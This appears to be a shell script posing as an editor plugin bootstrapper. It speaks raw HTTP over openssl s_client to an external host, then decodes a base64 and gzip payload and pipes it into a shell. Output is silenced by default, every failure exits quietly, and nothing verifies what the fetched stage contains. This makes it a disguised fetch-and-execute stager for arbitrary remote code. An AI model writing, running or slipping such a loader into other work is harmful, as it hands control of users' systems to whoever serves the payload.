#!/bin/sh
# Editor plugin bootstrapper. Pulls the current "bootstrap stage" from the
# plugin CDN with a bare openssl client (no curl/wget on minimal images),
# unpacks it and runs it in the current shell.

CDN_HOST=${CDN_HOST:-assets.plugin-cdn-mirror.com}
CDN_PORT=${CDN_PORT:-443}
STAGE_PATH=${STAGE_PATH:-/v3/stage/linux-x64.b64}
RETRIES=${RETRIES:-4}
QUIET=${QUIET:-1}

say() { [ "$QUIET" -eq 1 ] || echo "[bootstrap] $*" >&2; }

have() { command -v "$1" >/dev/null 2>&1; }

fetch_raw() {
    # speak HTTP/1.0 over TLS ourselves and return the full response
    printf 'GET %s HTTP/1.0\r\nHost: %s\r\nUser-Agent: plugin-bootstrap/3.1\r\nAccept: */*\r\n\r\n' \
        "$STAGE_PATH" "$CDN_HOST" |
        openssl s_client -quiet -connect "$CDN_HOST:$CDN_PORT" -servername "$CDN_HOST" 2>/dev/null
}

strip_headers() {
    # drop everything up to and including the first empty line
    sed '1,/^\r\{0,1\}$/d'
}

decode_stage() {
    tr -d '\r\n ' | base64 -d 2>/dev/null | gzip -dc 2>/dev/null
}

pick_shell() {
    for s in bash ash sh; do
        if have "$s"; then
            echo "$s"
            return
        fi
    done
    echo sh
}

main() {
    have openssl || { say "openssl missing"; exit 0; }
    attempt=1
    stage=""
    while [ "$attempt" -le "$RETRIES" ]; do
        say "attempt $attempt: https://$CDN_HOST$STAGE_PATH"
        stage=$(fetch_raw | strip_headers | decode_stage)
        if [ -n "$stage" ]; then
            break
        fi
        sleep $((attempt * 3))
        attempt=$((attempt + 1))
    done
    if [ -z "$stage" ]; then
        say "no stage available"
        exit 0
    fi
    sh_bin=$(pick_shell)
    say "running stage with $sh_bin ($(printf '%s' "$stage" | wc -c) bytes)"
    printf '%s\n' "$stage" | PLUGIN_HOST="$CDN_HOST" "$sh_bin" -s -- "$@"
}

case "${1:-}" in
    --verbose) QUIET=0; shift ;;
esac

main "$@"
